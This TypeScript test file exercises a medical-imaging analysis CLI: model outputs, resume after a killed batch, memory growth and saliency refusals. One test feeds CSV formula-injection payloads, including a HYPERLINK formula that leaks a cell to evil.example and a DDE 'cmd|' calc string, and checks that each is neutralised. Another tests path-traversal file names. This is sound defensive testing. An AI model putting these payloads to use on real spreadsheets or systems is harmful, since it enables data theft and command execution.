/**
 * `neoscope analyze` end to end on real images with fixture models: the per-image files,
 * summary and exit codes; a batch killed with SIGKILL resumes without redoing finished
 * images; memory stays flat over 500 images.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import sharp from 'sharp';
import { writeFixtureModelsFolder } from '../inference/testing/fixture-package.ts';
import { projectRoot, samplePath, sharedDataPath } from '../testing/shared-data.ts';
import { shippedModelVersionPattern } from '../testing/shipped-model.ts';
import { runAnalyze } from './analyze.ts';

const quiet = { out: () => {}, err: () => {} };
const models = writeFixtureModelsFolder();

test('analyze writes findings, masks, saliency and a summary; a bad file makes the exit code 3', async () => {
  const out = mkdtempSync(join(tmpdir(), 'neoscope-analyze-'));
  const errors: string[] = [];
  const code = await runAnalyze(
    {
      paths: [
        samplePath('fundus-exports'),
        samplePath('chest-dx-lateral-highdicom.dcm'),
        sharedDataPath('dicom/pydicom/MR_truncated.dcm'),
      ],
      out,
      models: [],
      backend: 'wasm',
      modelsFolder: models,
      saliency: 'auto',
    },
    { out: () => {}, err: (t) => void errors.push(t) },
  );
  assert.equal(code, 3);
  const folder = join(out, 'Image_01L');
  for (const file of [
    'test-quadrant.json',
    'test-quadrant.saliency.png',
    'test-segmenter.json',
    'test-segmenter.prob.png',
    'test-segmenter.mask.png',
  ])
    assert.ok(existsSync(join(folder, file)), file);
  const result = JSON.parse(readFileSync(join(folder, 'test-quadrant.json'), 'utf8'));
  assert.equal(result.backend, 'wasm');
  assert.match(result.model.sha256, /^[0-9a-f]{64}$/);
  assert.equal(result.findings[0].label, 'top-left bright');
  assert.ok(result.findings[0].score > 0 && result.findings[0].score < 1);

  const mask = await sharp(join(folder, 'test-segmenter.mask.png'))
    .raw()
    .toBuffer({ resolveWithObject: true });
  const prob = await sharp(join(folder, 'test-segmenter.prob.png'))
    .raw()
    .toBuffer({ resolveWithObject: true });
  assert.deepEqual(
    [mask.info.width, mask.info.height],
    [999, 960],
    'maps are in image coordinates',
  );
  for (let i = 0; i < mask.data.length; i += 97)
    assert.equal(
      mask.data[i],
      prob.data[i]! >= 128 ? 255 : 0,
      'mask = probability ≥ threshold (same channel layout)',
    );

  const summary = readFileSync(join(out, 'summary.csv'), 'utf8');
  assert.match(
    summary,
    /MR_truncated\.dcm","failed",.*"DICOM_TRUNCATED_PIXEL_DATA","truncated pixel data: 8,130 of 8,192 bytes"/,
  );
  assert.match(
    summary,
    /chest-dx-lateral-highdicom\.dcm","done","",.*"no installed model for chest images"/,
  );
  assert.ok(errors.some((e) => e.includes('DICOM_TRUNCATED_PIXEL_DATA')));
});

test(
  'a batch killed with SIGKILL resumes without redoing finished images',
  { timeout: 180_000 },
  async () => {
    const inputs = mkdtempSync(join(tmpdir(), 'neoscope-inputs-'));
    for (let i = 0; i < 40; i++)
      copyFileSync(
        sharedDataPath('dicom/dcmjs/sample-op.dcm'),
        join(inputs, `op-${String(i).padStart(3, '0')}.dcm`),
      );
    const out = mkdtempSync(join(tmpdir(), 'neoscope-resume-'));
    const journal = join(out, '.neoscope-analyze.journal');
    const args = [
      '--import',
      'tsx',
      join(projectRoot, 'core/cli/main.ts'),
      'analyze',
      inputs,
      '--out',
      out,
      '--models',
      models,
      '--model',
      'test-quadrant',
      '--saliency',
      'none',
    ];
    const lines = () =>
      existsSync(journal) ? readFileSync(journal, 'utf8').split('\n').filter(Boolean) : [];

    const first = spawn(process.execPath, args, { cwd: projectRoot, stdio: 'ignore' });
    const deadline = Date.now() + 120_000;
    while (lines().length < 8 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    first.kill('SIGKILL');
    await new Promise((r) => first.once('exit', r));
    const before = lines();
    assert.ok(before.length >= 8 && before.length < 40, `killed after ${before.length} images`);

    let stderr = '';
    const second = spawn(process.execPath, args, { cwd: projectRoot });
    second.stderr.on('data', (d) => (stderr += d));
    const code = await new Promise((r) => second.once('exit', r));
    assert.equal(code, 0);
    assert.match(stderr, new RegExp(`resuming: ${before.length} image\\(s\\) already done`));
    const after = lines();
    const keys = after.map((l) => JSON.parse(l).key);
    assert.equal(after.length, 40, 'each image journaled exactly once');
    assert.equal(new Set(keys).size, 40);
    assert.deepEqual(after.slice(0, before.length), before, 'finished images were not redone');
    assert.equal(
      readdirSync(out).filter((f) => f.endsWith('.partial')).length,
      0,
      'no half-written outputs left',
    );
  },
);

test(
  'memory stays flat over 500 images (RSS growth < 10% between image 100 and 500)',
  { timeout: 300_000 },
  async () => {
    const inputs = mkdtempSync(join(tmpdir(), 'neoscope-500-'));
    mkdirSync(join(inputs, 'batch'));
    for (let i = 0; i < 500; i++)
      copyFileSync(
        samplePath('chest-dx-lateral-highdicom.dcm'),
        join(inputs, 'batch', `dx-${String(i).padStart(3, '0')}.dcm`),
      );
    // The fixture models are retina models; a chest film needs a chest one, so relabel a copy.
    const chestModels = mkdtempSync(join(tmpdir(), 'neoscope-chest-models-'));
    const manifestPath = join(models, 'test-quadrant', 'manifest.json');
    mkdirSync(join(chestModels, 'test-quadrant'));
    copyFileSync(
      join(models, 'test-quadrant', 'model.onnx'),
      join(chestModels, 'test-quadrant', 'model.onnx'),
    );
    const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
    await import('node:fs/promises').then((fs) =>
      fs.writeFile(
        join(chestModels, 'test-quadrant', 'manifest.json'),
        JSON.stringify({ ...manifest, domain: 'chest' }),
      ),
    );
    const early: number[] = [];
    const late: number[] = [];
    const out = mkdtempSync(join(tmpdir(), 'neoscope-500-out-'));
    // Garbage is collected before each reading, and each end of the batch is read ten times
    // (images 91-100 and 491-500), keeping the lowest: what the process retains, not when V8
    // or libvips last released memory (single readings swing by ±10% between runs).
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const code = await runAnalyze(
      {
        paths: [join(inputs, 'batch')],
        out,
        models: [],
        backend: 'wasm',
        modelsFolder: chestModels,
        saliency: 'cam',
        onImageDone: (i) => {
          const window = i > 90 && i <= 100 ? early : i > 490 && i <= 500 ? late : undefined;
          if (!window) return;
          gc();
          window.push(process.memoryUsage().rss);
        },
      },
      quiet,
    );
    assert.equal(code, 0);
    const [first, last] = [Math.min(...early), Math.min(...late)];
    const growth = (last - first) / first;
    console.log(
      `# RSS (lowest after GC) around image 100 ${(first / 2 ** 20).toFixed(0)} MiB, around image 500 ${(last / 2 ** 20).toFixed(0)} MiB (${(growth * 100).toFixed(1)}%)`,
    );
    assert.ok(growth < 0.1, `RSS grew ${(growth * 100).toFixed(1)}%`);
  },
);

test(
  'with the shipped models, a fundus gets a vessel map: vessels inside the field of view, none outside',
  { timeout: 120_000 },
  async () => {
    const out = mkdtempSync(join(tmpdir(), 'neoscope-vessels-'));
    const code = await runAnalyze(
      {
        paths: [samplePath('fundus-exports/Image_01R.jpg')],
        out,
        models: ['retina-vessels'],
        backend: 'wasm',
        modelsFolder: join(projectRoot, 'models'),
        saliency: 'auto',
      },
      quiet,
    );
    assert.equal(code, 0);
    const folder = join(out, 'Image_01R');
    for (const file of [
      'retina-vessels.json',
      'retina-vessels.prob.png',
      'retina-vessels.mask.png',
    ])
      assert.ok(existsSync(join(folder, file)), file);
    const mask = await sharp(join(folder, 'retina-vessels.mask.png'))
      .raw()
      .toBuffer({ resolveWithObject: true });
    const photo = await sharp(samplePath('fundus-exports/Image_01R.jpg'))
      .raw()
      .toBuffer({ resolveWithObject: true });
    const counts = { inside: 0, insideVessel: 0, outside: 0, outsideVessel: 0 };
    const pixels = mask.info.width * mask.info.height;
    for (let i = 0; i < pixels; i++) {
      const vessel = mask.data[i * mask.info.channels]! > 0;
      if (photo.data[i * photo.info.channels]! > 20) {
        counts.inside++;
        if (vessel) counts.insideVessel++;
      } else {
        // the camera's dark surround
        counts.outside++;
        if (vessel) counts.outsideVessel++;
      }
    }
    const { inside, insideVessel, outside, outsideVessel } = counts;
    const vesselFraction = insideVessel / inside;
    const outsideFraction = outsideVessel / outside;
    console.log(
      `# vessel fraction inside the FOV ${(vesselFraction * 100).toFixed(1)}%, outside ${(outsideFraction * 100).toFixed(1)}%`,
    );
    assert.ok(vesselFraction > 0.04 && vesselFraction < 0.25, `inside ${vesselFraction}`);
    assert.ok(outsideFraction < 0.05, `outside ${outsideFraction}`);

    // The package declares vascular metrics: the disc lies in the bright disc region and all
    // four quadrants around it have measured vessels; the overlay colours only vessel pixels.
    const measured = JSON.parse(
      readFileSync(join(folder, 'retina-vessels.measurements.json'), 'utf8'),
    ).measurements;
    const vascular = measured.find((m: { kind: string }) => m.kind === 'retinal-vascular-metrics');
    const { opticDisc, quadrants, severity } = vascular.metrics;
    const discLuma =
      photo.data[
        (Math.round(opticDisc.y) * photo.info.width + Math.round(opticDisc.x)) *
          photo.info.channels +
          1
      ]!;
    let meanGreen = 0;
    for (let i = 0; i < pixels; i++) meanGreen += photo.data[i * photo.info.channels + 1]!;
    meanGreen /= pixels;
    console.log(
      `# optic disc at (${opticDisc.x}, ${opticDisc.y}), green ${discLuma} vs image mean ${meanGreen.toFixed(0)}; severity ${JSON.stringify(severity)}`,
    );
    assert.ok(discLuma > 2 * meanGreen, 'the disc found is a bright region');
    assert.equal(quadrants.length, 4);
    assert.ok(quadrants.every((q: { vessels: number }) => q.vessels > 0));
    assert.ok(severity.meanTortuosityIndex > 1 && severity.meanTortuosityIndex < 1.5);
    const overlay = await sharp(join(folder, 'retina-vessels.tortuosity.png'))
      .raw()
      .toBuffer({ resolveWithObject: true });
    assert.equal(overlay.info.channels, 4);
    let painted = 0;
    let paintedOnVessel = 0;
    for (let i = 0; i < pixels; i++) {
      if (!overlay.data[i * 4 + 3]) continue;
      painted++;
      if (mask.data[i * mask.info.channels]! > 0) paintedOnVessel++;
    }
    assert.ok(
      painted > 1000 && paintedOnVessel / painted > 0.8,
      `${paintedOnVessel}/${painted} overlay pixels on vessels`,
    );
  },
);

test(
  'with the shipped models, a chest film gets lung masks and a CTR that matches an independent heart outline',
  { timeout: 180_000 },
  async () => {
    const out = mkdtempSync(join(tmpdir(), 'neoscope-chest-'));
    const dicomFilm = sharedDataPath(
      'dicom',
      'torchxrayvision',
      'rsna_1.2.276.0.7230010.3.1.4.8323329.6904.1517875201.850819.dcm',
    );
    const normalFilm = sharedDataPath(
      'cxr',
      'CheXmask-example',
      'images',
      'normal_pa_wikimedia.jpg',
    );
    const code = await runAnalyze(
      {
        paths: [dicomFilm, normalFilm],
        out,
        models: ['chest-lungs'],
        backend: 'wasm',
        modelsFolder: join(projectRoot, 'models'),
        saliency: 'auto',
        photoDomain: 'chest',
      },
      quiet,
    );
    assert.equal(code, 0);
    const ratios: Record<string, number> = {};
    for (const stem of [
      'rsna_1.2.276.0.7230010.3.1.4.8323329.6904.1517875201.850819',
      'normal_pa_wikimedia',
    ]) {
      for (const file of [
        'chest-lungs.json',
        'chest-lungs.prob.png',
        'chest-lungs.mask.png',
        'chest-lungs.measurements.json',
      ])
        assert.ok(existsSync(join(out, stem, file)), `${stem}/${file}`);
      const [ctr] = JSON.parse(
        readFileSync(join(out, stem, 'chest-lungs.measurements.json'), 'utf8'),
      ).measurements;
      assert.equal(ctr.kind, 'cardiothoracic-ratio', JSON.stringify(ctr.error));
      const m = ctr.measurement;
      assert.ok(
        m.cardiac[0].x > m.thoracic[0].x && m.cardiac[1].x < m.thoracic[1].x,
        'heart borders inside the thorax',
      );
      assert.ok(m.ratio > 0.35 && m.ratio < 0.65, `${stem}: ratio ${m.ratio}`);
      ratios[stem] = m.ratio;
    }
    // The normal film has a heart outline from CheXmask (a model's, not manual truth, but
    // independent of ours): its width over our thoracic width is the ratio to match.
    const heart = await sharp(sharedDataPath('cxr', 'CheXmask-example', 'masks', 'heart.png'))
      .greyscale()
      .raw()
      .toBuffer({ resolveWithObject: true });
    let minX = heart.info.width;
    let maxX = -1;
    for (let i = 0; i < heart.info.width * heart.info.height; i++) {
      if (heart.data[i * heart.info.channels]! < 128) continue;
      minX = Math.min(minX, i % heart.info.width);
      maxX = Math.max(maxX, i % heart.info.width);
    }
    const [normal] = JSON.parse(
      readFileSync(join(out, 'normal_pa_wikimedia', 'chest-lungs.measurements.json'), 'utf8'),
    ).measurements;
    const reference = (maxX - minX + 1) / normal.measurement.thoracicWidthPx;
    console.log(
      `# CTR on the normal film ${ratios.normal_pa_wikimedia!.toFixed(3)} vs heart outline ${reference.toFixed(3)}; RSNA film ${ratios['rsna_1.2.276.0.7230010.3.1.4.8323329.6904.1517875201.850819']!.toFixed(3)}`,
    );
    assert.ok(Math.abs(ratios.normal_pa_wikimedia! - reference) < 0.05);
    assert.match(
      readFileSync(join(out, 'summary.csv'), 'utf8'),
      /cardiothoracic ratio \(estimate\)/,
    );
  },
);

test('an input named "...jpg" or "..jpg" never makes analyze remove a folder outside its output', async () => {
  const parent = mkdtempSync(join(tmpdir(), 'neoscope-traversal-'));
  const inputs = join(parent, 'inputs');
  const out = join(parent, 'work', 'out');
  mkdirSync(inputs);
  mkdirSync(out, { recursive: true });
  writeFileSync(join(parent, 'work', 'keep.txt'), 'the parent of --out');
  writeFileSync(join(out, 'keep-too.txt'), 'inside --out');
  const photo = readdirSync(samplePath('fundus-exports')).find((n) => /\.jpe?g$/i.test(n))!;
  for (const hostile of ['...jpg', '..jpg', '.jpg'])
    copyFileSync(join(samplePath('fundus-exports'), photo), join(inputs, hostile));
  const code = await runAnalyze(
    {
      paths: [join(inputs, '...jpg'), join(inputs, '..jpg'), join(inputs, '.jpg')],
      out,
      models: ['test-quadrant'],
      backend: 'wasm',
      modelsFolder: models,
      saliency: 'none',
    },
    quiet,
  );
  assert.equal(code, 0);
  assert.ok(existsSync(join(parent, 'work', 'keep.txt')), 'the parent of --out is untouched');
  assert.ok(existsSync(join(out, 'keep-too.txt')), '--out itself is untouched');
  const folders = readdirSync(out)
    .filter((n) => !n.startsWith('.') && n !== 'summary.csv' && n !== 'keep-too.txt')
    .sort();
  assert.deepEqual(folders, ['image', 'image-2', 'image-3']);
});

test('a saliency method a model cannot produce is refused naming the model, before anything is written', async () => {
  const out = join(mkdtempSync(join(tmpdir(), 'neoscope-saliency-')), 'out');
  const errors: string[] = [];
  const code = await runAnalyze(
    {
      paths: [samplePath('fundus-exports')],
      out,
      models: ['test-segmenter'],
      backend: 'wasm',
      modelsFolder: models,
      saliency: 'rise',
    },
    { out: () => {}, err: (t) => void errors.push(t) },
  );
  assert.equal(code, 2);
  assert.match(
    errors.join(''),
    /SALIENCY_UNSUPPORTED: model test-segmenter \S+ cannot produce rise saliency: it is a segmentation model/,
  );
  assert.ok(!existsSync(out), 'no output folder');

  const ok = await runAnalyze(
    {
      paths: [samplePath('fundus-exports')],
      out,
      models: ['test-quadrant'],
      backend: 'wasm',
      modelsFolder: models,
      saliency: 'occlusion',
    },
    quiet,
  );
  assert.equal(ok, 0);
  const result = JSON.parse(readFileSync(join(out, 'Image_01L', 'test-quadrant.json'), 'utf8'));
  assert.equal(result.saliency.method, 'occlusion');
  assert.ok(result.timingsMs.saliency > 0);
  const none = join(out, '..', 'none');
  assert.equal(
    await runAnalyze(
      {
        paths: [samplePath('fundus-exports')],
        out: none,
        models: ['test-segmenter'],
        backend: 'wasm',
        modelsFolder: models,
        saliency: 'none',
      },
      quiet,
    ),
    0,
  );
  const segmented = JSON.parse(
    readFileSync(join(none, 'Image_01L', 'test-segmenter.json'), 'utf8'),
  );
  assert.equal(segmented.saliency, undefined);
  assert.equal(
    segmented.timingsMs.saliency,
    undefined,
    'no saliency time is reported when no map was made',
  );
});

test('summary.csv: formula-like cells are neutralised with a leading apostrophe; numbers, negative ones too, stay intact', async () => {
  const { writeSummary } = await import('./analyze.ts');
  const out = mkdtempSync(join(tmpdir(), 'neoscope-summary-'));
  const row = { model: 'ctr', version: '1.0.0', backend: 'wasm', ms: 12 };
  await writeSummary(out, [
    {
      key: 'k1',
      input: '=HYPERLINK("http://evil.example/?"&A1,"open")',
      status: 'done',
      outputs: 'img',
      results: [
        { ...row, label: '-0.25', score: -0.25 },
        { ...row, label: '+1', score: 1e-7 },
      ],
    },
    {
      key: 'k2',
      input: "-cmd|' /C calc'!A0",
      status: 'failed',
      code: 'DICOM_X',
      message: '@SUM(1+1)*cmd|',
    },
    { key: 'k3', input: '+A1', status: 'failed', code: 'DICOM_X', message: '\tTAB=1' },
    { key: 'k4', input: '\r=1+1', status: 'failed', code: 'DICOM_X', message: '-2.5e-3' },
  ]);
  const lines = readFileSync(join(out, 'summary.csv'), 'utf8').trimEnd().split('\n');
  const cells = (i: number) =>
    lines[i]!.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replace(/""/g, '"'));
  assert.equal(cells(1)[0], `'=HYPERLINK("http://evil.example/?"&A1,"open")`);
  assert.equal(cells(1)[9], '-0.25', 'a negative number is a number');
  assert.equal(cells(1)[10], '-0.250000');
  assert.equal(cells(2)[9], '+1');
  assert.equal(cells(2)[10], '0.000000');
  assert.equal(cells(3)[0], `'-cmd|' /C calc'!A0`);
  assert.equal(cells(3)[14], "'@SUM(1+1)*cmd|");
  assert.equal(cells(4)[0], "'+A1");
  assert.equal(cells(4)[14], "'\tTAB=1");
  assert.equal(
    lines[5]!.startsWith(`"'\r=1+1"`),
    true,
    'a leading carriage return is neutralised too',
  );
  assert.equal(cells(5)[14], '-2.5e-3');
});

test(
  'the shipped chest models on a chest film: the classifier writes its score and CAM; asking RISE of the segmenter is refused',
  { timeout: 120_000 },
  async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'neoscope-chest-')), 'out');
    const shipped = join(projectRoot, 'models');
    assert.equal(
      await runAnalyze(
        {
          paths: [samplePath('chest-cr-j2k-pydicom.dcm')],
          out,
          models: [],
          backend: 'wasm',
          modelsFolder: shipped,
          saliency: 'auto',
        },
        quiet,
      ),
      0,
    );
    const result = JSON.parse(
      readFileSync(join(out, 'chest-cr-j2k-pydicom', 'chest-pneumonia.json'), 'utf8'),
    );
    assert.equal(result.findings[0].label, 'pneumonia');
    assert.ok(result.findings[0].score >= 0 && result.findings[0].score <= 1);
    assert.deepEqual(result.saliency, { method: 'cam', file: 'chest-pneumonia.saliency.png' });
    const png = await sharp(
      join(out, 'chest-cr-j2k-pydicom', 'chest-pneumonia.saliency.png'),
    ).metadata();
    assert.deepEqual([png.width, png.height], [1841, 1955], 'the map is in image coordinates');
    const lungs = JSON.parse(
      readFileSync(join(out, 'chest-cr-j2k-pydicom', 'chest-lungs.json'), 'utf8'),
    );
    assert.equal(lungs.saliency, undefined, 'a segmenter writes a probability map, not saliency');

    const errors: string[] = [];
    const refused = await runAnalyze(
      {
        paths: [samplePath('chest-cr-j2k-pydicom.dcm')],
        out: `${out}-rise`,
        models: [],
        backend: 'wasm',
        modelsFolder: shipped,
        saliency: 'rise',
      },
      { out: () => {}, err: (t) => void errors.push(t) },
    );
    assert.equal(refused, 2);
    assert.match(
      errors.join(''),
      new RegExp(
        `model chest-lungs ${shippedModelVersionPattern('chest-lungs')} cannot produce rise saliency`,
      ),
    );
  },
);
